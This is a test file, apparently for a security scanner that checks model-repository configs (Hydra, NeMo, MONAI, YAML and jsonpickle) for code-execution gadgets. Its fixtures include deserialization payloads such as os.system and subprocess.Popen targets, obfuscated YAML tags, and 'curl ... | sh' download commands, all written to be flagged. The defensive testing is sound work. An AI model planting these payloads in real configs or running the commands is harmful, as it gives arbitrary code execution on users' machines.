import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { hubFolder, type HubFiles } from "../../../../../testkit/hub-repository.ts";
import type { FolderReading } from "../detector.ts";
import { hydraConfig } from "./index.ts";

const detect = (files: HubFiles, path = ""): Promise<FolderReading> =>
  hydraConfig.detect(hubFolder(files, (name) => hydraConfig.matches(name), path));

const text = (content: string): Uint8Array => new TextEncoder().encode(content);

const verdictsOf = (reading: FolderReading): string[] =>
  (reading.hazards ?? []).map(({ hazard }) => `${hazard.rule} ${hazard.verdict}`);

const beside = (yaml: string): Promise<FolderReading> =>
  detect({ "model_config.yaml": text(yaml), "model_weights.ckpt": "" });

describe("names of what to call", () => {
  it("of well-known libraries are safe", async () => {
    const reading = await beside(
      "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  optim:\n    _target_: torch.optim.AdamW\n",
    );
    expect(reading.hazards).toEqual([]);
    expect(reading.problems).toEqual([]);
    expect(reading.roles).toEqual([{ path: "model_config.yaml", role: "config" }]);
  });

  it.each([
    ["os.system"],
    ["builtins.eval"],
    ["subprocess.Popen"],
    ["torch.os.system"],
    ["nemo.core.config.__builtins__.exec"],
    ["torch.utils.cpp_extension.load_inline"],
    ["pydoc.locate"],
    ["eval"],
  ])("%s is dangerous, with its line", async (name) => {
    const reading = await beside(`a: 1\nmodel:\n  _target_: ${name}\n  command: id\n`);
    expect(verdictsOf(reading)).toEqual(["CONFIG-GADGET dangerous"]);
    expect(reading.hazards?.[0]?.hazard).toMatchObject({
      line: 3,
      evidence: [expect.stringContaining(name)],
    });
  });

  it("of others are unknown, of loaders suspicious", async () => {
    expect(verdictsOf(await beside("_target_: my_pkg.Net\n"))).toEqual(["CONFIG-TARGET unknown"]);
    expect(verdictsOf(await beside("_target_: ${oc.env:X}\n"))).toEqual(["CONFIG-TARGET unknown"]);
    expect(verdictsOf(await beside("m: {_target_: torch.load, f: x.pt}\n"))).toEqual([
      "CONFIG-GADGET suspicious",
    ]);
    const looked = "m: {_target_: hydra.utils.get_method, path: os.system}\n";
    expect(verdictsOf(await beside(looked))).toContain("CONFIG-GADGET dangerous");
    const honest = "m: {_target_: hydra.utils.get_method, path: torch.nn.functional.relu}\n";
    expect(verdictsOf(await beside(honest))).toEqual([]);
  });

  it("are known under the keys of other libraries", async () => {
    expect(verdictsOf(await beside("m: {_component_: os.popen}\n"))).toEqual(["CONFIG-GADGET dangerous"]);
    expect(verdictsOf(await beside("m: {class_path: own.Net}\n"))).toEqual(["CONFIG-TARGET unknown"]);
    expect(verdictsOf(await beside("m: {target: ldm.models.X, params: {a: 1}}\n"))).toEqual([]);
    expect(verdictsOf(await beside("m: {target: own.models.X, params: {a: 1}}\n"))).toEqual([
      "CONFIG-TARGET unknown",
    ]);
    expect((await beside("build: {target: prod}\ncls: x\n")).roles).toEqual([]);
  });

  it("are known as the class of a NeMo model", async () => {
    const config = "target: nemo.collections.asr.os.system\nnemo_version: 1.0.0\nlabels: []\n";
    expect(verdictsOf(await beside(config))).toEqual(["CONFIG-GADGET dangerous"]);
  });

  it("away from models count only when they are dangerous", async () => {
    const own = { "conf/config.yaml": text("m: {_target_: app.Net}\n") };
    expect(await detect(own, "conf")).toMatchObject({ hazards: [], roles: [] });
    const bad = { "conf/config.yaml": text("m: {_target_: os.system}\n") };
    expect(verdictsOf(await detect(bad, "conf"))).toEqual(["CONFIG-GADGET dangerous"]);
  });

  it.each([
    ["train.yaml", "x: {_target_: torch.hub.load, repo_or_dir: a/b}", "suspicious"],
    ["cfg.yaml", "x: {_target_: numpy.load, file: x.npy, allow_pickle: true}", "suspicious"],
    ["hparams.yaml", "b: !apply:torch.load [x.pt]", "suspicious"],
    ["any.yaml", "x: {_target_: functools.partial, _args_: [subprocess.run]}", "dangerous"],
    ["any.yaml", "t: {_target_: '${a}.${b.c}'}\na: os\nb: {c: system}", "dangerous"],
    ["any.json", '{"_target_": "os.system"}', "dangerous"],
    ["any.json", '{"_t\\u0061rget_": "os.system"}', "dangerous"],
    ["any.json", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}', "dangerous"],
    ["any.json", '{"py/object/apply": ["os.system", "id"]}', "dangerous"],
    ["any.json", '[{"py/type": "subprocess.Popen"}]', "dangerous"],
    ["any.json", `{"py/repr": "os/os.system('id')"}`, "dangerous"],
  ])("that run or load code count in %s away from models: %s", async (name, content, verdict) => {
    expect(verdictsOf(await detect({ [name]: text(content) }))).toEqual([`CONFIG-GADGET ${verdict}`]);
  });

  it.each([
    ["a.yaml", "x: {_target_: numpy.load, file: x.npy}"],
    ["a.yaml", "x: {_target_: torch.load, f: x.pt, weights_only: true}"],
    ["a.yaml", "x: {_target_: functools.partial, _args_: [app.run]}"],
    ["mkdocs.yml", "slug: !!python/object/apply:pymdownx.slugs.slugify {}"],
    ["a.json", '{"py/object": "app.models.User"}'],
    ["a.json", '{"target": "os.system", "params": {}}'],
  ])("of an application are nothing in %s: %s", async (name, content) => {
    expect(await detect({ [name]: text(content) })).toMatchObject({ hazards: [], roles: [] });
  });

  it("in groups of recipes belong to the model beside them", async () => {
    const files = { "model.ckpt": "", "conf/model/x.yaml": text("_target_: own.Net\n") };
    expect(verdictsOf(await detect(files, "conf/model"))).toEqual(["CONFIG-TARGET unknown"]);
    const ran = { "out/model.ckpt": "", "out/.hydra/config.yaml": text("m: {_target_: own.Net}\n") };
    expect(verdictsOf(await detect(ran, "out/.hydra"))).toEqual(["CONFIG-TARGET unknown"]);
  });
});

describe("the description of a dataset", () => {
  const dataset = (
    download: string,
    keys = "train: images\nval: images\nnames: [a]\n",
  ): Promise<FolderReading> => detect({ "data.yaml": text(`${keys}download: ${download}\n`) });

  it("that downloads by a script is suspicious, or as bad as the script", async () => {
    const python =
      "|\n  from ultralytics.utils.downloads import download\n  download(['https://example.org/a.zip'])";
    expect(verdictsOf(await dataset(python))).toEqual(["CONFIG-DOWNLOAD suspicious"]);
    expect(verdictsOf(await dataset("bash data/get.sh"))).toEqual(["CONFIG-DOWNLOAD suspicious"]);
    const hostile = "|\n  import os\n  os.system('curl https://example.org/x | sh')";
    expect(verdictsOf(await dataset(hostile))).toEqual(["CONFIG-DOWNLOAD dangerous"]);
    expect(verdictsOf(await dataset("bash -c 'curl https://example.org/x | sh'"))).toEqual([
      "CONFIG-DOWNLOAD dangerous",
    ]);
  });

  it("that downloads an archive, or is none, is nothing", async () => {
    expect(verdictsOf(await dataset("https://example.org/a.zip"))).toEqual([]);
    expect(verdictsOf(await dataset("bash x.sh", "steps: []\n"))).toEqual([]);
  });
});

describe("tags of YAML", () => {
  it.each([
    ["!!python/object/apply:os.system ['id']", ["CONFIG-GADGET dangerous"]],
    ["!<tag:yaml.org,2002:python/object/apply:os.system> ['id']", ["CONFIG-GADGET dangerous"]],
    ["!!python/object/apply:%6fs.system ['id']", ["CONFIG-GADGET dangerous"]],
    ["!!python/tuple [!!python/object/new:subprocess.Popen [id]]", ["CONFIG-GADGET dangerous"]],
    ["!!python/object/apply:own.make []", ["CONFIG-TARGET suspicious"]],
    ["!!python/object/apply:pathlib.PosixPath [a]", ["CONFIG-TARGET unknown"]],
    ["!!python/tuple [1, 2]", []],
    ["!apply:os.system [id]", ["CONFIG-GADGET dangerous"]],
    ["!new:speechbrain.nnet.CNN.Conv1d {a: 1}", []],
    ["!new:custom.Model {a: 1}", ["CONFIG-TARGET unknown"]],
  ])("%s", async (value, expected) => {
    const reading = await beside(`a: ${value}\n`);
    expect(verdictsOf(reading)).toEqual(expected);
    expect(reading.problems).toEqual([]);
  });

  it("behind a prefix of their own are the same", async () => {
    const reading = await beside(
      "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
    );
    expect(verdictsOf(reading)).toEqual(["CONFIG-GADGET dangerous"]);
  });

  it("in a broken text and in UTF-16 are found", async () => {
    const broken = await beside("a: !!python/object/apply:os.system [id]\nb: [\n");
    expect(verdictsOf(broken)).toContain("CONFIG-GADGET dangerous");
    const wide = Buffer.from("\ufeffa: !!python/object/apply:os.system [id]\n", "utf16le");
    const reading = await detect({ "config.yaml": new Uint8Array(wide), "x.ckpt": "" });
    expect(verdictsOf(reading)).toEqual(["CONFIG-GADGET dangerous"]);
  });
});

describe("a MONAI bundle", () => {
  const bundle = (value: object): HubFiles => ({ "configs/inference.json": value, "models/model.pt": "" });

  it("with expressions is unknown, and worse when they are", async () => {
    const network = { _target_: "monai.networks.nets.UNet", channels: "$len(@sizes)" };
    expect(verdictsOf(await detect(bundle({ network }), "configs"))).toEqual(["CONFIG-EXPRESSION unknown"]);
    const imports = ["$import os"];
    const run = "$os.system('curl https://example.org/x | sh')";
    expect(verdictsOf(await detect(bundle({ network, imports, run }), "configs"))).toEqual([
      "CONFIG-EXPRESSION dangerous",
    ]);
  });
});

describe("hostile files", () => {
  it("that are broken beside a model are a gap only when they name code", async () => {
    const reading = await beside("model: {_target_: torch.nn.Linear}\nb: [\n");
    expect(reading.problems).toMatchObject([{ path: "model_config.yaml", problem: { code: "malformed" } }]);
    expect((await beside("b: [\n")).problems).toEqual([]);
  });

  it("with mutated names never throw", async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary", maxLength: 100 }), async (name) => {
        const files = { "config.json": { _target_: name, cls: name, x: `$${name}` }, "a.ckpt": "" };
        const reading = await detect(files);
        expect(reading.roles.length).toBeLessThanOrEqual(1);
        await beside(`a: !!python/object/apply:${name}\n_target_: ${name}\n`);
      }),
      { seed: 3, numRuns: 60 },
    );
  });
});
